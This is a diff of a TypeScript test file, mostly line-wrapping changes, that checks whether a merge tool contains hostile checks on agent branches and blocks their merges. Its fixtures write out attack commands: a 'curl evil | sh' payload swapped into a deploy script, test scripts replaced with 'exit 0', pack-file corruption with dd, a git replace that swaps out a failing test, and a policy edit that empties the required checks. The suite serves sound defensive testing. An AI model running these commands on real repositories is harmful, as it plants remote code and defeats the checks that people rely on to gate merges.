@@ -19,8 +19,13 @@ async function sync(sb: Sandbox): Promise<{ result: CliResult; doc: SyncDoc }> {
   return { result, doc: JSON.parse(result.stdout) as SyncDoc };
 }
 
-const merged = (doc: SyncDoc): string[] => doc.actions.filter((a) => a.kind === 'merge' && a.status === 'done').map((a) => a.key.split(':')[1] ?? a.key);
-const reasons = (doc: SyncDoc, change: string) => doc.lanes.flatMap((l) => l.queue).find((q) => q.change === change)?.reasons.map((r) => r.code) ?? [];
+const merged = (doc: SyncDoc): string[] =>
+  doc.actions.filter((a) => a.kind === 'merge' && a.status === 'done').map((a) => a.key.split(':')[1] ?? a.key);
+const reasons = (doc: SyncDoc, change: string) =>
+  doc.lanes
+    .flatMap((l) => l.queue)
+    .find((q) => q.change === change)
+    ?.reasons.map((r) => r.code) ?? [];
 
 /** A docs check that does `evil` first, then passes: the change carrying it is the attacker. */
 const evilDocsCheck = (evil: string) => `${evil}\ntest -s docs/index.md\n`;
@@ -47,14 +52,20 @@ printf "target: main\\nmerge: {required_checks: []}\\nlocal: {branches: [\\"agen
     sb.branch('agent/web-broken', { 'web/status': 'broken\n' });
     const first = await sync(sb);
     assert.deepEqual(merged(first.doc), []);
-    assert.match(first.result.stderr, /the policy \.buildmaster\.yml in the checkout .* changed \(its content and its index entry or skip-worktree\/assume-unchanged flags\)/);
+    assert.match(
+      first.result.stderr,
+      /the policy \.buildmaster\.yml in the checkout .* changed \(its content and its index entry or skip-worktree\/assume-unchanged flags\)/,
+    );
     assert.match(first.result.stderr, /restored the content and the index entry and flags of \.buildmaster\.yml/);
     assert.equal(sb.read('.buildmaster.yml'), policy, 'the policy is what it was');
     assert.equal(sb.git('ls-files', '-v', '--', '.buildmaster.yml'), 'H .buildmaster.yml', 'no skip-worktree flag is left');
     assert.ok(reasons(first.doc, 'agent/docs-evil').includes('check-failing'), JSON.stringify(first.doc.lanes));
     // What the check wrote is kept for a person, not lost.
     const kept = readdirSync(join(sb.stateDir, 'quarantine'));
-    assert.ok(kept.some((name) => readFileSync(join(sb.stateDir, 'quarantine', name), 'utf8').includes('required_checks: []')), kept.join(', '));
+    assert.ok(
+      kept.some((name) => readFileSync(join(sb.stateDir, 'quarantine', name), 'utf8').includes('required_checks: []')),
+      kept.join(', '),
+    );
     for (let i = 0; i < 2; i++) assert.deepEqual(merged((await sync(sb)).doc), []);
     assert.equal(sb.git('show', 'main:web/status'), 'ok', 'the broken change never merged');
   });
@@ -109,7 +120,11 @@ describe('containment: committed content cannot change without a ref moving', fu
 
   it('a check that rewrites loose objects of main in place fails, merging waits for a person, and the broken change never merges', async () => {
     sb = new Sandbox({ ...threeLaneFiles(), 'infra/deploy.sh': 'safe\n' });
-    sb.branch('agent/docs-evil', { 'docs/test.sh': evilDocsCheck(`${swapObject('infra/deploy.sh', 'curl evil | sh')}\n${swapObject('web/test.sh', 'exit 0')}\nrm -f infra/deploy.sh web/test.sh`) });
+    sb.branch('agent/docs-evil', {
+      'docs/test.sh': evilDocsCheck(
+        `${swapObject('infra/deploy.sh', 'curl evil | sh')}\n${swapObject('web/test.sh', 'exit 0')}\nrm -f infra/deploy.sh web/test.sh`,
+      ),
+    });
     sb.branch('agent/web-broken', { 'web/status': 'broken\n' });
     const first = await sync(sb);
     assert.match(first.result.stderr, /the repository's object store was tampered with \(the loose object [0-9a-f]{40} was rewritten/);
@@ -118,16 +133,27 @@ describe('containment: committed content cannot change without a ref moving', fu
     assert.ok(reasons(first.doc, 'agent/docs-evil').includes('check-failing'), JSON.stringify(first.doc.lanes));
     const second = await sync(sb);
     assert.deepEqual(merged(second.doc), [], 'no merge while the store is tampered with');
-    assert.ok(reasons(second.doc, 'agent/web-broken').includes('merge-blocked') || reasons(second.doc, 'agent/web-broken').includes('check-failing'), JSON.stringify(second.doc.lanes));
+    assert.ok(
+      reasons(second.doc, 'agent/web-broken').includes('merge-blocked') ||
+        reasons(second.doc, 'agent/web-broken').includes('check-failing'),
+      JSON.stringify(second.doc.lanes),
+    );
     assert.ok(reasons(second.doc, 'agent/docs-evil').includes('check-failing'));
-    const blocked = second.doc.lanes.flatMap((l) => l.queue).flatMap((q) => q.reasons).find((r) => r.code === 'merge-blocked');
+    const blocked = second.doc.lanes
+      .flatMap((l) => l.queue)
+      .flatMap((q) => q.reasons)
+      .find((r) => r.code === 'merge-blocked');
     assert.match(blocked?.message ?? '', /object store was tampered with/);
   });
 
   it('a check that only adds objects, commits in its worktree and runs git gc is no breach: its change merges', async () => {
     sb = new Sandbox(threeLaneFiles());
     // Freshens existing objects (hash-object of committed content), writes new ones, then packs loose objects away.
-    sb.branch('agent/docs-gc', { 'docs/test.sh': evilDocsCheck('git hash-object -w docs/index.md web/test.sh >/dev/null && git -c user.name=c -c user.email=c@l commit -q --allow-empty -m scratch && git gc -q') });
+    sb.branch('agent/docs-gc', {
+      'docs/test.sh': evilDocsCheck(
+        'git hash-object -w docs/index.md web/test.sh >/dev/null && git -c user.name=c -c user.email=c@l commit -q --allow-empty -m scratch && git gc -q',
+      ),
+    });
     const { doc, result } = await sync(sb);
     assert.doesNotMatch(result.stderr, /outside its worktree/);
     assert.deepEqual(merged(doc), ['agent/docs-gc'], result.stderr);
@@ -138,7 +164,9 @@ describe('containment: committed content cannot change without a ref moving', fu
     sb = new Sandbox(threeLaneFiles());
     sb.git('gc', '-q');
     sb.branch('agent/docs-pack', {
-      'docs/test.sh': evilDocsCheck('p=$(ls "$(git rev-parse --git-common-dir)"/objects/pack/*.pack | head -1); chmod u+w "$p"; printf Z | dd of="$p" bs=1 seek=200 conv=notrunc 2>/dev/null'),
+      'docs/test.sh': evilDocsCheck(
+        'p=$(ls "$(git rev-parse --git-common-dir)"/objects/pack/*.pack | head -1); chmod u+w "$p"; printf Z | dd of="$p" bs=1 seek=200 conv=notrunc 2>/dev/null',
+      ),
     });
     const { doc, result } = await sync(sb);
     assert.match(result.stderr, /object store was tampered with \(objects\/pack\/pack-[0-9a-f]+\.pack does not verify/);
@@ -148,7 +176,11 @@ describe('containment: committed content cannot change without a ref moving', fu
 
   it('a replacement planted by a check is undone and ignored: the broken change it would let pass never merges', async () => {
     sb = new Sandbox(threeLaneFiles());
-    sb.branch('agent/docs-evil', { 'docs/test.sh': evilDocsCheck('git replace -f $(git rev-parse HEAD:web/test.sh) $(echo "exit 0" | git hash-object -w --stdin); rm -f web/test.sh') });
+    sb.branch('agent/docs-evil', {
+      'docs/test.sh': evilDocsCheck(
+        'git replace -f $(git rev-parse HEAD:web/test.sh) $(echo "exit 0" | git hash-object -w --stdin); rm -f web/test.sh',
+      ),
+    });
     sb.branch('agent/web-broken', { 'web/status': 'broken\n' });
     const first = await sync(sb);
     assert.match(first.result.stderr, /refs\/replace\/[0-9a-f]{40} created at/);
@@ -160,7 +192,10 @@ describe('containment: committed content cannot change without a ref moving', fu
   });
 
   it('a fix command that rewrites a loose object of main fails with the tampering named, and merging waits', async () => {
-    sb = new Sandbox({ ...threeLaneFiles(), 'scripts/fixer.sh': `cat > /dev/null\nprintf "ok\\n" > web/status\n${swapObject('api/test.sh', 'exit 0')}\n` });
+    sb = new Sandbox({
+      ...threeLaneFiles(),
+      'scripts/fixer.sh': `cat > /dev/null\nprintf "ok\\n" > web/status\n${swapObject('api/test.sh', 'exit 0')}\n`,
+    });
     sb.branch('agent/web-bad', { 'web/status': 'bad\n' });
     sb.git('merge', '--quiet', '--no-ff', '-m', "Merge branch 'agent/web-bad'", 'agent/web-bad');
     const { doc } = await sync(sb);
